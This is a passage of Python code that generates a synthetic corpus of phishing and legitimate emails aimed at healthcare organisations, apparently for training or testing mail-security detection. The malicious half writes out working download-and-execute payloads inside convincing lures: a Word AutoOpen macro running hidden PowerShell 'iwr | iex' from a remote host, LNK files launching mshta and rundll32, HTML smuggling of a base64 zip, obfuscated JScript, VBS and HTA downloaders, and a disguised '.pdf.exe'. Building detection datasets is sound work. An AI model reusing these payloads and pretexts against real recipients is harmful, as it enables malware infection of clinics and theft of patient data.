    mf = "dr.ruth.calloway.gp@gmail.com"
    macro = ('Attribute VB_Name = "NewMacros"\nSub AutoOpen()\n    Dim s As String\n'
             '    s = "powershell -w hidden -ep bypass -c ""iwr -useb https://cdn-refdocs.top/r.ps1 | iex"""\n'
             '    CreateObject("WScript.Shell").Run s, 0, False\nEnd Sub\nSub Document_Open()\n    AutoOpen\nEnd Sub\n')
    doc = F.docx(["REFERRAL LETTER - ORTHOPAEDIC OUTPATIENTS", "Patient: Mr D. Hale, DOB 14/03/1961, NHS No 485 777 3456",
                  "Reason: right knee pain, suspected meniscal tear, MRI requested.",
                  "This document is protected. Click 'Enable Content' to view the full referral and imaging report."],
                 "Referral letter", "Dr R Calloway", macro)
    plain = ("Dear colleague,\n\nPlease find attached a referral for Mr Hale (right knee, suspected meniscal tear) for "
             "orthopaedic assessment. MRI report included in the document. If you cannot see the content, please "
             "click Enable Editing then Enable Content.\n\nKind regards,\nDr Ruth Calloway\nGP Partner\n")
    html = gmail_html(plain.strip().split("\n"))
    sd = sender("gmail", d, "m1", mf)
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="m1ref",
                  head_lines=head(addr("Dr Ruth Calloway", mf), rc, "Patient referral - Mr D Hale - knee", d, sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"000000000000{hx('m1m', 16)}", [alt(plain, html, f"000000000000{hx('m1a', 16)}"),
                             attachment("application/vnd.ms-word.document.macroEnabled.12", "Referral_Hale_D.docm", doc)]))
    add("malware", "phish", "gp-referral-docm-macro",
        "Fake GP referral from a Gmail account to an orthopaedic clinic with a macro-enabled Word document whose AutoOpen "
        "macro starts hidden PowerShell to download and run a payload.", raw)

    # ---- Lab results: zip holding a LNK that runs mshta, from a compromised lab courier mailbox
    dt = "2025-01-21 14:06:39 -0500"
    d = when(dt)
    rc = "lab@mercyvalleyhealth.org"
    mf = "dispatch@tristatecourierlogistics.com"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\mshta.exe", "https://labresults-cdn.b-cdn.net/view.hta")
    z = F.zip_archive([("Lab_Results_MVH_0121.pdf.lnk", lnk)])
    plain = ("Hello,\n\nAttached are the reference lab results for the specimens picked up yesterday (manifest 0121-447). "
             "Please review and confirm receipt.\n\nThank you,\nTri-State Courier & Logistics - Dispatch\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("m365", d, "m2", mf)
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="m2lnk",
                  head_lines=head(addr("TriState Dispatch", mf), rc, "Lab results - manifest 0121-447", d, sd["mid"],
                                  sig=sd["sig"], post=fill(sd["post"], "Lab results - manifest 0121-447", True)),
                  body=Multi("mixed", f"_004_{hx('m2m', 24).upper()}_", [alt(plain, html, f"_000_{hx('m2a', 24).upper()}_"),
                             attachment("application/x-zip-compressed", "Lab_Results_0121.zip", z)]))
    add("malware", "phish", "lab-results-zip-lnk-mshta",
        "Lab-results message from a specimen courier's compromised Microsoft 365 mailbox with a zip holding a "
        "'.pdf.lnk' shortcut that launches mshta on a remote HTA.", raw)

    # ---- Patient records ISO with a LNK and a DLL, to a clinic (records request pretext)
    dt = "2024-03-19 11:44:20 -0700"
    d = when(dt)
    rc = "records@sunvalleypeds.com"
    mf = "paralegal@hartmanwellslaw.com"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "records.dll,DllRegisterServer")
    iso = F.iso_image([("Patient_Records_Request.lnk", lnk), ("records.dll", F.pe_stub())], "RECORDS")
    plain = ("Good morning,\n\nPlease find attached the signed HIPAA authorization and records request for our client "
             "(minor patient, DOB 06/2017). Kindly send the complete chart at your earliest convenience.\n\n"
             "Regards,\nMelissa Tran\nParalegal | Hartman Wells LLP\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("postfix", d, "m3", mf, host="mail.hartmanwellslaw.com", ip="37.120.239.12")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="m3iso",
                  head_lines=head(addr("Melissa Tran", mf), rc, "Records request - signed HIPAA authorization", d, sd["mid"],
                                  sig=sd["sig"], post=["X-Mailer: Microsoft Outlook 16.0"]),
                  body=Multi("mixed", f"----=_NextPart_000_{hx('m3m', 4).upper()}", [alt(plain, html, f"----=_NextPart_001_{hx('m3a', 4).upper()}"),
                             attachment("application/octet-stream", "Records_Request_HIPAA.iso", iso)]))
    add("malware", "phish", "records-request-iso-lnk-dll",
        "Medical-records request 'from a law firm' (new domain) to a pediatric clinic with an ISO image holding a shortcut "
        "that runs a bundled DLL through rundll32.", raw)

    # ---- HTML smuggling 'eFax' attachment that assembles and downloads a zip
    dt = "2025-11-04 08:19:02 -0600"
    d = when(dt)
    rc = "frontoffice@brooksidecardiology.com"
    mf = "fax@efax-messaging.net"
    payload = F.zip_archive([("eFax_Document_7741.js", b"var sh=new ActiveXObject('WScript.Shell');sh.Run('cmd /c curl -s https://fx-cdn.top/a.bin -o %TEMP%\\\\a.exe && %TEMP%\\\\a.exe',0);\n")])
    blob = base64.b64encode(payload).decode()
    lines = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    htm = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>eFax Viewer</title></head><body>'
           '<h3 style="font-family:Arial">eFax Document Viewer</h3><p style="font-family:Arial">Your download will start '
           'automatically. Open the downloaded file to view the fax.</p>\n<script>\nvar d="' + '"+\n"'.join(lines) + '";\n'
           'var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}\n'
           'var f=new Blob([u],{type:"application/zip"});var a=document.createElement("a");a.href=URL.createObjectURL(f);'
           'a.download="eFax_Document_7741.zip";document.body.appendChild(a);a.click();\n</script></body></html>\n').encode()
    plain = ("You have received a 3 page fax.\n\nFrom: 847-555-0112\nReceived: 11/04/2025 08:17 AM\n\nThe fax is attached "
             "to this email. Open the attachment to view.\n\neFax Messaging\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("postfix", d, "m4", mf, host="smtp.efax-messaging.net", ip="5.252.178.93")
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="m4smug",
                  head_lines=head(addr("eFax", mf), rc, "eFax message from 847-555-0112 - 3 page(s), Caller-ID: 847-555-0112",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"=_{hx('m4m', 30)}", [alt(plain, html, f"=_{hx('m4a', 30)}"),
                             attachment("text/html", "eFax_7741.html", htm)]))
    add("malware", "phish", "efax-html-smuggling-zip-js",
        "eFax notice from a look-alike domain whose HTML attachment smuggles a base64 zip (holding a JScript downloader) "
        "and saves it through a Blob download when opened.", raw)



def batch_m2() -> None:
    # ---- Care home 'invoice' zip with an obfuscated JScript, from a cPanel mailbox of an unrelated firm
    dt = "2024-06-12 09:52:14 +0100"
    d = when(dt)
    rc = "accounts@harbourviewcare.co.uk"
    mf = "accounts@brightwaterlinen.co.uk"
    js = ("var _0x1a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','Run'];\n"
          "var o=new ActiveXObject(_0x1a[0]);\n"
          "o[_0x1a[1]]('powershell -nop -w hidden -c \"$u=\\'https://linen-inv.top/i.php\\';iex(iwr $u -UseBasicParsing)\"',0);\n").encode()
    z = F.zip_archive([("Invoice_INV-20931.js", js)])
    plain = ("Good morning,\n\nPlease find attached invoice INV-20931 for linen and laundry services for May. Payment "
             "terms 14 days.\n\nMany thanks,\nAccounts Team\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("cpanel", d, "m5", mf, host="uk-shared12.krystal.uk", ip="77.72.1.34")
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="m5js", auth_over={"dmarc": "none"},
                  head_lines=head(addr("Accounts Team", mf), rc, "Invoice INV-20931 - May 2024", d, sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"b1_{hx('m5m', 32)}", [alt(plain, html, f"b2_{hx('m5a', 32)}"),
                             attachment("application/zip", "INV-20931.zip", z)]))
    add("malware", "phish", "linen-invoice-zip-jscript",
        "Care-home 'linen services invoice' from an unrelated company's cPanel mailbox with a zip holding an obfuscated "
        "JScript file that starts a hidden PowerShell downloader.", raw)

    # ---- Reply-chain hijack with a zip holding a VBS, from a compromised pharmacy-services mailbox
    dt = "2024-02-27 15:36:48 -0500"
    d = when(dt)
    rc = "dhenderson@pinecrestseniorliving.com"
    mf = "orders@keystoneltcpharmacy.com"
    vbs = ('Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c curl -s -o %PUBLIC%\\m.msi https://ltc-orders.top/m.msi '
           '&& msiexec /i %PUBLIC%\\m.msi /qn", 0\n').encode()
    z = F.zip_archive([("MAR_Changes_Feb27.vbs", vbs)])
    qh, qp = quoted_outlook("Denise Henderson &lt;dhenderson@pinecrestseniorliving.com&gt;", "Monday, February 12, 2024 3:02 PM",
                            "Keystone LTC Pharmacy Orders &lt;orders@keystoneltcpharmacy.com&gt;", "Cycle fill - Building B",
                            ["Hi,", "Please see the cycle fill changes for Building B attached. Two residents discharged.",
                             "Thanks, Denise"])
    paras = ["Hi Denise,", "", "Please see the updated MAR changes attached and sign off before tonight's med pass.", "",
             "Password for the file: 2702", "", "Thank you"]
    html = outlook_html(paras, qh)
    plain = "\n".join(paras) + "\n\n" + qp
    sd = sender("m365", d, "m6", mf)
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="m6vbs",
                  head_lines=head(addr("Keystone LTC Pharmacy Orders", mf), addr("Denise Henderson", rc),
                                  "RE: Cycle fill - Building B", d, sd["mid"], sig=sd["sig"],
                                  post=fill(sd["post"], "Cycle fill - Building B", True)),
                  body=Multi("mixed", f"_004_{hx('m6m', 24).upper()}_", [alt(plain, html, f"_000_{hx('m6a', 24).upper()}_"),
                             attachment("application/x-zip-compressed", "MAR_Changes_Feb27.zip", z)]))
    add("malware", "phish", "ltc-pharmacy-reply-hijack-zip-vbs",
        "Reply-chain hijack from a long-term-care pharmacy's compromised mailbox (passes all checks) answering a real "
        "cycle-fill thread with a zip holding a VBScript that downloads and silently installs an MSI.", raw)

    # ---- German job application (Bewerbung) zip with a double-extension executable
    dt = "2025-09-09 10:14:33 +0200"
    d = when(dt)
    rc = "praxis@praxis-drbrandt.de"
    mf = "anna.schmidt.bewerbung@web.de"
    z = F.zip_archive([("Bewerbung_Anna_Schmidt/Lebenslauf_Anna_Schmidt.pdf.exe", F.pe_stub()),
                       ("Bewerbung_Anna_Schmidt/Anschreiben.txt", "Sehr geehrte Damen und Herren, anbei meine Bewerbung.\n".encode())])
    paras = ["Sehr geehrte Frau Dr. Brandt,", "",
             "hiermit bewerbe ich mich auf die ausgeschriebene Stelle als Medizinische Fachangestellte (MFA) in Ihrer "
             "Praxis. Meine vollständigen Bewerbungsunterlagen (Lebenslauf, Zeugnisse) finden Sie im Anhang.", "",
             "Über eine Einladung zu einem persönlichen Gespräch würde ich mich sehr freuen.", "",
             "Mit freundlichen Grüßen", "Anna Schmidt"]
    plain = "\n".join(paras) + "\n"
    ip = "212.227.15.3"
    host = "mout.web.de"
    raw = mail(rcpt_kind="gws", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="m7bew",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "web.de", "from": "web.de", "d": "web.de",
                     "s": "s29768273", "mfaddr": mf, "pol": "p=QUARANTINE sp=NONE dis=NONE"},
               hops=[hop(f"[91.{num('m7a', 1, 250)}.{num('m7b', 1, 250)}.{num('m7c', 1, 250)}] ([91.{num('m7a', 1, 250)}.{num('m7b', 1, 250)}.{num('m7c', 1, 250)}]) by\n\tweb-mail.web.de (3c-app-webde-bap{num('m7d', 10, 60)}.server.lan [172.19.172.{num('m7e', 2, 99)}])\n\t(via HTTP)",
                         f"mout.web.de (mrweb{num('m7f', 100, 110)} [213.165.67.{num('m7g', 100, 120)}])", d, 1, "ESMTPSA (Nemesis)", f"1M{alnum('m7i', 6)}-1{alnum('m7j', 11)}")],
               head=head(addr("Anna Schmidt", mf), rc, "Bewerbung als Medizinische Fachangestellte (MFA)", d,
                         f"<trinity-{hx('m7m', 8)}-{hx('m7n', 4)}-{hx('m7o', 4)}-{hx('m7p', 4)}-{hx('m7q', 12)}-{int(d.timestamp() * 1000)}@3c-app-webde-bap{num('m7d', 10, 60)}>",
                         sig=[dkim("web.de", "s29768273", d, "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Date:\n\tContent-Type")],
                         pre=["X-UI-Sender-Class: 814a7b36-bfc1-4dae-8640-3722d8ec6cd6"],
                         post=["Importance: normal", "Sensitivity: Normal", f"X-Provags-ID: V03:K1:{b64('m7pv', 60)}",
                               f"X-UI-Out-Filterresults: notjunk:1;V03:K0:{b64('m7uf', 20)}="]),
               body=Multi("mixed", f"abmob-{hx('m7bb', 8)}-{hx('m7bc', 4)}-{hx('m7bd', 4)}-{hx('m7be', 4)}-{hx('m7bf', 12)}",
                          [text(plain), attachment("application/zip", "Bewerbung_Anna_Schmidt.zip", z)]))
    add("malware", "phish", "bewerbung-zip-pdf-exe-de",
        "German job application (MFA position) from a web.de account with a zip whose 'Lebenslauf.pdf.exe' is a Windows "
        "executable disguised as a CV, the classic Bewerbung malware lure against practices.", raw)

    # ---- French lab results zip with an HTA, spoofed lab sender failing authentication
    dt = "2025-03-13 17:22:09 +0100"
    d = when(dt)
    rc = "secretariat@clinique-saintroch.fr"
    mf = "resultats@biolab-analyses.fr"
    hta = ('<html><head><HTA:APPLICATION ID="r" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>\n<script language="VBScript">\n'
           'CreateObject("WScript.Shell").Run "powershell -w 1 -c iex((New-Object Net.WebClient).DownloadString(\'https://bio-res.top/s\'))", 0\n'
           'self.close\n</script></head><body></body></html>\n').encode()
    z = F.zip_archive([("Resultats_Biologie_MARTIN_J.hta", hta)])
    paras = ["Bonjour,", "", "Veuillez trouver ci-joint les résultats d'analyses biologiques de votre patient M. MARTIN "
             "Jacques (dossier 25-031-8842).", "", "Le fichier est compressé pour des raisons de confidentialité.", "",
             "Cordialement,", "Laboratoire Biolab Analyses - Service des résultats"]
    plain = "\n".join(paras) + "\n"
    html = outlook_html(paras)
    ip = "45.134.26.77"
    raw = mail(rcpt_kind="m365", region="fra", rcpt=rc, dt=dt, helo="biolab-analyses.fr", host="biolab-analyses.fr", ip=ip,
               seed="m8hta",
               auth={"spf": "softfail", "dkim": "none", "dmarc": "fail", "action": "none", "mf": "biolab-analyses.fr",
                     "from": "biolab-analyses.fr", "mfaddr": mf, "compauth": "fail reason=001", "scl": 5},
               hops=[], head=head(addr("Biolab Analyses - Résultats", mf), rc, "Résultats d'analyses - MARTIN Jacques",
                                 d, f"<{hx('m8mid', 24)}@biolab-analyses.fr>"),
               body=Multi("mixed", f"----=_Part_{hx('m8m', 16)}", [alt(plain, html, f"----=_Part_{hx('m8a', 16)}"),
                          attachment("application/zip", "Resultats_MARTIN_J.zip", z)]))
    add("malware", "phish", "resultats-labo-zip-hta-fr",
        "French 'lab results' message spoofing a medical laboratory (SPF softfail, no DKIM, DMARC fail) with a zip holding an "
        "HTA that runs a hidden PowerShell downloader.", raw)



# ================================================================ legitimate mail

def internal_m365(*, rcpt: str, dt: str, seed: str, head_lines: list[str], body, region: str = "nam") -> bytes:
    """A message between two mailboxes of the same Microsoft 365 tenant (never leaves Exchange Online)."""
    d = when(dt)
    mbx1, _, _, ms_id = _ms_hosts(seed + "in1", region)
    mbx2, _, _, _ = _ms_hosts(seed + "in2", region)
    t0 = d.astimezone(timezone.utc)
    t1 = t0 + timedelta(seconds=1)
    lines = [
        f"Received: from {mbx2} ({hx(seed + 'a', 4)}:{hx(seed + 'b', 4)}::{num(seed + 'c', 1, 30)}) by\n {mbx2} with HTTPS; {fmt(t1)}",
        f"Received: from {mbx1}\n ([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}]) by {mbx1}\n"
        f" ([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}%4]) with mapi id {ms_id}; {fmt(t0)}",
    ] + head_lines + [
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-AuthSource: {mbx1}",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        "X-MS-Exchange-Organization-SCL: -1",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {hx(seed + 'nm', 8)}-{hx(seed + 'nm2', 4)}-{hx(seed + 'nm3', 4)}-{hx(seed + 'nm4', 4)}-{hx(seed + 'nm5', 12)}",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.9" + str(num(seed + "lat", 100000, 999999)),
    ]
    return message("\n".join(lines), body)


def esp(kind: str, d: datetime, seed: str, dom: str, frm_local: str) -> dict:
    """Bulk senders: Mailchimp, Salesforce Marketing Cloud, Marketo, HubSpot, Brevo, SendGrid (branded)."""
    out = {"post": []}
    if kind == "mailchimp":
        ip = f"198.2.{num(seed + 'i', 128, 191)}.{num(seed + 'j', 2, 250)}"
        host = f"mail{num(seed + 'h', 10, 250)}.atl{num(seed + 'k', 11, 291)}.mcsv.net"
        mf = f"bounce-mc.us5_{num(seed + 'u', 10000000, 99999999)}.{num(seed + 'v', 1000000, 9999999)}-{hx(seed + 'w', 10)}@mail{num(seed + 'h', 10, 250)}.atl{num(seed + 'k', 11, 291)}.mcdlv.net"
        out["sig"] = [dkim(dom, "k2", d, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:\n\tList-Unsubscribe-Post:Content-Type:MIME-Version:CC"),
                      dkim("mailchimpapp.net", "k3", d, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe", "mc")]
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": mf.split("@")[1], "from": dom, "d": dom, "s": "k2", "mfaddr": mf}
        out["mid"] = f"<{hx(seed + 'm', 20)}.{hx(seed + 'm2', 10)}.{num(seed + 'm3', 1000000, 9999999)}@mail{num(seed + 'h', 10, 250)}.atl{num(seed + 'k', 11, 291)}.mcdlv.net>"
        out["hops"] = [hop(f"localhost (localhost [127.0.0.1])", host + " (Postfix)", d, 1, "ESMTP", alnum(seed + "pf", 10, True))]
    elif kind in ("sfmc", "marketo", "hubspot", "brevo", "sendgrid"):
        ip, host, mfdom, sel, extra_d = {
            "sfmc": (f"13.111.{num(seed + 'i', 4, 90)}.{num(seed + 'j', 2, 250)}", f"mta.e.{dom}", f"bounce.e.{dom}", "200608", ""),
            "marketo": (f"192.28.{num(seed + 'i', 144, 159)}.{num(seed + 'j', 2, 250)}", f"mail{num(seed + 'h', 100, 999)}.{dom}", f"mktomail.{dom}", "m1", "mktdns.com"),
            "hubspot": (f"158.247.{num(seed + 'i', 16, 31)}.{num(seed + 'j', 2, 250)}", f"o{num(seed + 'h', 1, 9)}.hubspotemail.net", f"bf{num(seed + 'h', 10, 99)}x.hubspotemail.net", "hs1", "hubspotemail.net"),
            "brevo": (f"77.32.{num(seed + 'i', 148, 180)}.{num(seed + 'j', 2, 250)}", f"mail{num(seed + 'h', 100, 999)}.sendibm{num(seed + 'k', 1, 4)}.com", f"sendibm{num(seed + 'k', 1, 4)}.com", "mail", "sendinblue.com"),
            "sendgrid": (f"168.245.{num(seed + 'i', 1, 127)}.{num(seed + 'j', 2, 250)}", f"o{num(seed + 'h', 1, 9)}.ptr{num(seed + 'k', 1000, 9999)}.{dom}", f"em{num(seed + 'e', 1000, 9999)}.{dom}", "s1", "sendgrid.info"),
        }[kind]
        mf = f"bounce-{hx(seed + 'b', 12)}@{mfdom}"
        out["sig"] = [dkim(dom, sel, d, "From:Subject:To:Date:Message-ID:MIME-Version:Content-Type:\n\tList-Unsubscribe:List-Unsubscribe-Post")]
        if extra_d:
            out["sig"].append(dkim(extra_d, "s1" if kind != "marketo" else "m1", d, "From:Subject:To:Date:Message-ID", kind))
        out["auth"] = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": mfdom, "from": dom, "d": dom, "s": sel, "mfaddr": mf,
                       "pol": "p=QUARANTINE sp=QUARANTINE dis=NONE"}
        out["mid"] = {"sfmc": f"<{hx(seed + 'm', 8)}-{hx(seed + 'm2', 4)}-{hx(seed + 'm3', 4)}-{hx(seed + 'm4', 4)}-{hx(seed + 'm5', 12)}@atl1s07mta{num(seed + 'mt', 1000, 9999)}.xt.local>",
                      "marketo": f"<{num(seed + 'm', 100, 999)}.{num(seed + 'm2', 10**8, 10**9)}.{num(seed + 'm3', 10**9, 10**10)}.{int(d.timestamp())}{num(seed + 'm4', 100, 999)}@mkto.{dom}>",
                      "hubspot": f"<{int(d.timestamp() * 1000)}.{num(seed + 'm', 10**9, 10**10)}@bf{num(seed + 'h', 10, 99)}x.hubspotemail.net>",
                      "brevo": f"<{hx(seed + 'm', 8)}-{hx(seed + 'm2', 4)}-{hx(seed + 'm3', 4)}-{hx(seed + 'm4', 4)}-{hx(seed + 'm5', 12)}@smtp-relay.mailin.fr>",
                      "sendgrid": f"<{b64(seed + 'm', 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{num(seed + 'g', 1, 40)}>"}[kind]
        out["hops"] = [] if kind != "sendgrid" else [hop("MTc4ODk0MjA (unknown)", f"geopod-ismtpd-{num(seed + 'g', 1, 40)} (SG) with HTTP", d, 1, "", b64(seed + 'sg', 22).replace('/', '_')).replace(" with  id", " id")]
        if kind == "sfmc":
            out["post"] = [f"x-CSA-Complaints: csacomplaints@eco.de", f"x-job: {num(seed + 'job', 100000, 999999)}_{num(seed + 'jb', 1000000, 9999999)}",
                           f"X-SFMC-Stack: {num(seed + 'st', 1, 11)}"]
        if kind == "sendgrid":
            out["post"] = [f"X-SG-EID:\n {b64(seed + 'eid', 70)}", f"X-Entity-ID: u001.{b64(seed + 'ent', 22)}"]
        if kind == "brevo":
            out["post"] = [f"X-Mailin-Campaign: {num(seed + 'cmp', 100, 999)}", f"X-Mailin-Client: {num(seed + 'cl', 1000000, 9999999)}",
                           "Feedback-ID: " + f"{ip.replace('.', '_')}:{num(seed + 'cmp', 100, 999)}_-1:{num(seed + 'cmp', 100, 999)}:Sendinblue"]
    else:
        raise ValueError(kind)
    out["ip"], out["host"] = ip, host
    return out


def unsub(url: str, mailto: str = "") -> list[str]:
    value = f"<{url}>" + (f", <mailto:{mailto}>" if mailto else "")
    return [f"List-Unsubscribe: {value}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]



def batch_l1() -> None:
    # ---- Genuine ADP pay statement notification
    dt = "2025-02-14 05:02:41 -0500"
    d = when(dt)
    rc = "tbrennan@mercyvalleyhealth.org"
    paras = ["Hello Thomas,", "Your pay statement for the pay date <b>02/14/2025</b> is now available.",
             "To view it, log in to the ADP mobile app or to MyADP. For your security, we don't include pay details in this email."]
    html = simple_notice('<tr><td style="padding:18px 28px"><span style="font-size:26px;font-weight:bold;color:#d0271d">ADP</span></td></tr>',
                         paras, "https://my.adp.com/static/redbox/login.html", "Go to MyADP", "#d0271d",
                         "This email was sent from a notification-only address that cannot accept incoming email. Please "
                         "do not reply. ADP, Inc., One ADP Boulevard, Roseland, NJ 07068.", "ADP")
    plain = ("Hello Thomas,\n\nYour pay statement for the pay date 02/14/2025 is now available.\n\nTo view it, log in to the "
             "ADP mobile app or to MyADP: https://my.adp.com/static/redbox/login.html\n\nThis email was sent from a "
             "notification-only address. ADP, Inc., One ADP Boulevard, Roseland, NJ 07068.\n")
    ip = "170.146.160.37"
    host = "mailout4.adp.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="l1adp",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "adp.com", "from": "adp.com", "d": "adp.com",
                     "mfaddr": "noreply@adp.com"},
               hops=[hop("notificationsvc-prd-7c9f (10.66.12.41)", "mailout4.adp.com", d, 2, "ESMTP", alnum("l1h", 12, True))],
               head=head(addr("ADP", "noreply@adp.com"), rc, "Your pay statement is available", d,
                         f"<{hx('l1m', 12)}.{num('l1n', 10**9, 10**10)}.JavaMail.svc_notify@notificationsvc-prd>",
                         sig=[dkim("adp.com", "adpsel2", d)]),
               body=alt(plain, html, f"----=_Part_{num('l1p', 100000, 999999)}_{num('l1q', 10**6, 10**7)}.{int(d.timestamp() * 1000)}"))
    add("clean", "legit", "adp-pay-statement-available",
        "Genuine ADP notification from adp.com (SPF/DKIM/DMARC pass) that a hospital employee's pay statement is available, "
        "pointing only to the real MyADP login and containing no request for data.", raw)

    # ---- Genuine Workday inbox task notification from the tenant's myworkday.com address
    dt = "2025-10-27 13:15:09 -0400"
    d = when(dt)
    rc = "kpatel@northshorechildrens.org"
    link = "https://wd5.myworkday.com/northshore/d/task/2998$11842.htmld"
    paras = ["You have a new task in your Workday inbox:", "<b>Benefit Change - Open Enrollment: Kavya Patel</b>",
             "Due date: 11/07/2025", "Please complete your 2026 benefit elections before the due date."]
    html = simple_notice('<tr><td style="padding:18px 28px;background:#0875e1;color:#fff;font-size:20px">Northshore Children\'s Hospital</td></tr>',
                         paras, link, "Open in Workday", "#0875e1",
                         "This is a system-generated message from Workday. Please do not reply.", "Workday")
    plain = ("You have a new task in your Workday inbox:\nBenefit Change - Open Enrollment: Kavya Patel\nDue date: "
             f"11/07/2025\n\nOpen in Workday: {link}\n")
    ip = "199.59.113.71"
    host = "smtp-out-wd5-3.myworkday.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="l2wd",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "myworkday.com", "from": "myworkday.com",
                     "d": "myworkday.com", "mfaddr": "northshore@myworkday.com"},
               hops=[hop("wd5-prod-notif-27 (wd5-prod-notif-27 [10.32.84.27])", host + " (Postfix)", d, 1, "ESMTP", alnum("l2pf", 11, True))],
               head=head(addr("Northshore Children's Workday", "northshore@myworkday.com"), rc,
                         "Inbox Task: Benefit Change - Open Enrollment: Kavya Patel", d,
                         f"<{num('l2m', 10**9, 10**10)}.{num('l2n', 10**5, 10**6)}.{int(d.timestamp() * 1000)}@wd5-prod-notif-27>",
                         sig=[dkim("myworkday.com", "wd1", d)]),
               body=alt(plain, html, f"----=_Part_{num('l2p', 100000, 999999)}_{num('l2q', 10**6, 10**7)}.{int(d.timestamp() * 1000)}"))
    add("clean", "legit", "workday-open-enrollment-task",
        "Genuine Workday inbox-task notification from the hospital's tenant address at myworkday.com (all checks pass), "
        "linking to the real wd5.myworkday.com tenant for open enrollment.", raw)

    # ---- Genuine MyChart message notification to a nurse's personal Gmail (she is also a patient)
    dt = "2025-06-10 17:44:02 -0500"
    d = when(dt)
    rc = "megan.truong88@gmail.com"
    link = "https://mychart.prairiehealthsystem.org/MyChart/Authentication/Login?mode=stdfile&option=inbox"
    paras = ["Dear Megan,", "You have a new message from <b>Laura Jensen, APRN</b>.",
             "To read your message, log in to MyChart. For your privacy, we do not include health information in email."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#e8f1f8;color:#0b4f8a;font-size:22px;font-weight:bold">'
                         'Prairie Health MyChart</td></tr>', paras, link, "Log in to MyChart", "#0b4f8a",
                         "You are receiving this because you signed up for email notifications in MyChart. To change your "
                         "notification preferences, log in and go to Communication Preferences. MyChart&reg; licensed from "
                         "Epic Systems Corporation.", "MyChart")
    plain = ("Dear Megan,\n\nYou have a new message from Laura Jensen, APRN.\n\nTo read your message, log in to MyChart: "
             f"{link}\n\nMyChart licensed from Epic Systems Corporation.\n")
    ip = "168.245.72.19"
    host = "o3.ptr4417.mychart.prairiehealthsystem.org"
    raw = mail(rcpt_kind="gmail", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="l3mc",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "em4417.prairiehealthsystem.org",
                     "from": "prairiehealthsystem.org", "d": "prairiehealthsystem.org", "s": "s1",
                     "mfaddr": f"bounces+21877361-{hx('l3b', 4)}-megan.truong88=gmail.com@em4417.prairiehealthsystem.org",
                     "pol": "p=REJECT sp=REJECT dis=NONE"},
               hops=[hop("MjE4NzczNjE (unknown)", "geopod-ismtpd-9 (SG) with HTTP", d, 1, "", b64("l3g", 22).replace("/", "_")).replace(" with  id", " id")],
               head=head(addr("Prairie Health MyChart", "mychart-noreply@prairiehealthsystem.org"), rc,
                         "You have a new message in MyChart", d, f"<{b64('l3mid', 22).replace('/', '_')}@geopod-ismtpd-9>",
                         sig=[dkim("prairiehealthsystem.org", "s1", d, "content-type:from:mime-version:subject:to:cc:content-type:from\n\t:subject:to")]),
               body=alt(plain, html, hx("l3bd", 60)))
    add("clean", "legit", "mychart-new-message-genuine",
        "Genuine MyChart 'new message from your provider' notification from a health system's own domain via SendGrid "
        "(all checks pass, p=reject), linking to its real MyChart instance; no health data or requests.", raw)

    # ---- Genuine NMC revalidation reminder to personal Hotmail
    dt = "2025-03-02 09:00:17 +0000"
    d = when(dt)
    rc = "chloe.wainwright@hotmail.co.uk"
    paras = ["Dear Chloe Wainwright,", "NMC PIN: 19H2208E",
             "Your revalidation application is due by <b>1 June 2025</b>. You can submit it through NMC Online from now "
             "until that date. Remember you will also need to pay your annual fee.",
             'Guidance, forms and templates are on our website: <a href="https://www.nmc.org.uk/revalidation/">nmc.org.uk/revalidation</a>.']
